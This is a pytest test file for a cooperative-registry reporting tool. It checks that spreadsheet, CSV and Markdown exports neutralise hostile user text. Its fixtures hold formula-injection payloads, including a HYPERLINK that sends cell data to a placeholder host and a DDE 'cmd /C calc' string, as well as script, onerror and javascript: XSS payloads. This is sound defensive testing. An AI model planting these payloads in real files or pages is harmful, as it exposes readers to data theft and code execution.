"""People's text written to files stays text: no formula in a spreadsheet, no HTML or link in Markdown.

The files are written by the real exports, then reopened (openpyxl, csv) and checked cell by cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlmodel import Session, select

from htx_tasks import clock
from htx_tasks.core.cells import FORMULA_STARTS, from_csv, markdown_text, risky, to_csv
from htx_tasks.core.coops import Coop
from htx_tasks.engine import run_pass, sync_plan
from htx_tasks.registry import service
from htx_tasks.reporting import render
from htx_tasks.reporting.service import write
from htx_tasks.services import Actor, SubmitReport, submit, via_link
from htx_tasks.services.reporting import parse_period
from htx_tasks.store.db import make_engine, session_scope, upgrade
from htx_tasks.store.models import Occurrence

NOW = dt.datetime(2026, 11, 27, 3, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://x.example/?d="&B2,"Khó khăn: bấm vào đây")'
PLANTED = {"brand": FORMULA, "note": "+1+cmd|' /C calc'!A0", "tech_note": "@SUM(1+1)*cmd",
           "key_products": "-2+3", "members": 12}
HOSTILE_MD = ('Khó khăn: <script>alert(1)</script> <img src=x onerror=alert(2)> [bấm](javascript:alert(3)) '
              '![ảnh](http://evil.example/p.png) **đậm** | cột')


@pytest.mark.parametrize("text", [f"{start}x" for start in FORMULA_STARTS] + ["'=x", "=", "-"])
def test_risky_text_round_trips_through_csv(text: str) -> None:
    assert risky(text) == text.startswith(FORMULA_STARTS)
    written = to_csv(text)
    assert not risky(written) and from_csv(written) == text


@pytest.mark.parametrize("value", ["Đã xong", "12", "", 5, -3, None, "a=b", " =x", "'apostrophe"])
def test_harmless_values_are_written_as_they_are(value) -> None:
    assert to_csv(value) == value and from_csv(value) == value


def html_of(markdown: str) -> str:
    """What a Markdown viewer shows (CommonMark with GFM tables, as the Prefect UI renders)."""
    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_markdown_text_shows_html_links_and_images_as_typed() -> None:
    shown = html_of("| Nội dung |\n|---|\n| " + markdown_text(HOSTILE_MD + "\ndòng hai") + " |\n")
    for live in ("<script", "<img", "<a ", "<strong>"):
        assert live not in shown
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown and "[bấm](javascript:alert(3))" in shown
    assert "**đậm** | cột<br>dòng hai</td>" in shown  # one cell, the line break kept


@pytest.fixture
def engine(tmp_path: Path):
    engine = make_engine(f"sqlite:///{tmp_path / 'files.db'}")
    upgrade(engine)
    yield engine
    engine.dispose()


def planted_coop(plan) -> Coop:
    base = {"name": "Hợp tác xã nông nghiệp Cam Lập", "kind": "hop-tac-xa", "ward": "xa-cam-lap",
            "sector": "nong-nghiep", "follow_unit": "phong-kinh-te", "status": "dang-hoat-dong",
            "founded_on": dt.date(2015, 3, 1), "valid_from": dt.date(2023, 1, 1)}
    return Coop(code="HTX-INJ", **base, **PLANTED)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_registry_export_keeps_planted_formulas_as_text_and_reimports_them_unchanged(engine, plan, tmp_path, suffix):
    with session_scope(engine) as session:
        service.apply(session, [planted_coop(plan)], source="import", now=NOW)
    path = tmp_path / f"so{suffix}"
    with Session(engine) as session:
        service.export(session, plan, path)
    if suffix == ".xlsx":
        sheet = load_workbook(path).worksheets[0]
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and risky(c.value)]
        assert {c.value for c in cells} >= {v for v in PLANTED.values() if isinstance(v, str)}
        assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, shown with Excel's apostrophe
    else:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [v for row in csv.reader(handle) for v in row]
        assert not any(risky(v) for v in cells)
        assert "'" + FORMULA in cells
    with session_scope(engine) as session:
        result = service.import_file(session, plan, path, now=NOW)
    assert not result.changed and result.unchanged == result.rows == 1
    with Session(engine) as session:
        again = next(c for c in service.latest(session) if c.code == "HTX-INJ")
    assert again.brand == FORMULA and again.key_products == PLANTED["key_products"]


def test_cli_csv_output_is_neutralised(capsys) -> None:
    from htx_tasks.cli.output import print_csv

    print_csv(["Đơn vị", "Ghi chú"], [("UBND phường Ba Ngòi", FORMULA), ("Phòng Kinh tế", -2)])
    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert rows[1] == ["UBND phường Ba Ngòi", "'" + FORMULA] and rows[2] == ["Phòng Kinh tế", "-2"]


def test_consolidated_report_keeps_units_text_inert_in_xlsx_and_markdown(engine, plan, tmp_path):
    with session_scope(engine) as session:
        sync_plan(session, plan)
    run_pass(engine, plan, clock.parse_instant("2026-12-01T07:30"))
    with session_scope(engine) as session:
        rows = session.exec(select(Occurrence).order_by(Occurrence.deadline, Occurrence.id)).all()
        first = next(r for r in rows if r.unit_code == "phong-kinh-te")
        second = next(r for r in rows if r.unit_code == "phuong-ba-ngoi")
        for row, note in ((first, FORMULA), (second, HOSTILE_MD)):
            submit(session, plan, Actor.of_unit(row.unit_code, via_link("abc")),
                   SubmitReport.parse(occurrence=row.id, results=note, evidence="https://example.org/a",
                                      expected_version=row.version),  # what the unit's page showed
                   now=clock.parse_instant("2026-12-02T09:00"))
    report, files = write(engine, plan, parse_period("2026-H2"), tmp_path / "out",
                          now=clock.parse_instant("2026-12-28T09:00"), var_dir=tmp_path / "var")
    book = load_workbook(files["xlsx"])
    planted = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert planted, "the note is in the workbook"
    assert all(c.data_type == "s" for c in planted)
    assert not [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    for markdown in (files["md"].read_text(encoding="utf-8"), render.markdown(report)):  # file and artifact
        shown = html_of(markdown)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown and "[bấm](javascript:alert(3))" in shown
        assert "<script" not in shown and "<img" not in shown and "javascript:alert(3)\"" not in shown
        assert "evil.example" not in "".join(re.findall(r"<(?:a|img) [^>]*>", shown))
